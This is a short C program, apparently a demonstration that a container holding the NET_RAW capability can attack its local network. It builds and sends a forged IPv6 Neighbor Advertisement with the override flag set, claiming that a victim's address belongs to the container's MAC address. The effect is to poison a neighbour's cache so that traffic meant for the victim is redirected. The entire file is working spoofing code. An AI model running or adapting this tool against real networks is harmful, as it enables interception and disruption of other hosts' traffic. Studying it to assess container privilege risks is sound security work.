// What NET_RAW is enough for: tells a neighbour that another's IPv6 address has this container's MAC address.
// forge MINE VICTIM NEIGHBOUR

#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>

static void fail(const char *what) {
  perror(what);
  exit(1);
}

static struct sockaddr_in6 address(const char *text) {
  struct sockaddr_in6 made = {.sin6_family = AF_INET6};
  if (inet_pton(AF_INET6, text, &made.sin6_addr) != 1) fail(text);
  return made;
}

int main(int argc, char **argv) {
  if (argc != 4) return 2;
  int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6), hops = 255;
  if (fd < 0) fail("socket");
  struct ifreq card = {.ifr_name = "eth0"};
  if (ioctl(fd, SIOCGIFHWADDR, &card) < 0) fail("eth0");
  struct sockaddr_in6 mine = address(argv[1]), victim = address(argv[2]), neighbour = address(argv[3]);
  struct {
    struct nd_neighbor_advert advert;
    unsigned char option[8];
  } lie = {.advert = {.nd_na_hdr = {.icmp6_type = ND_NEIGHBOR_ADVERT}, .nd_na_target = victim.sin6_addr},
           .option = {ND_OPT_TARGET_LINKADDR, 1}};
  lie.advert.nd_na_flags_reserved = ND_NA_FLAG_OVERRIDE | ND_NA_FLAG_SOLICITED;
  memcpy(lie.option + 2, card.ifr_hwaddr.sa_data, 6);
  if (setsockopt(fd, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &hops, sizeof hops) < 0) fail("hops");
  if (bind(fd, (struct sockaddr *)&mine, sizeof mine) < 0) fail("bind");
  if (sendto(fd, &lie, sizeof lie, 0, (struct sockaddr *)&neighbour, sizeof neighbour) < 0) fail("sendto");
  return 0;
}
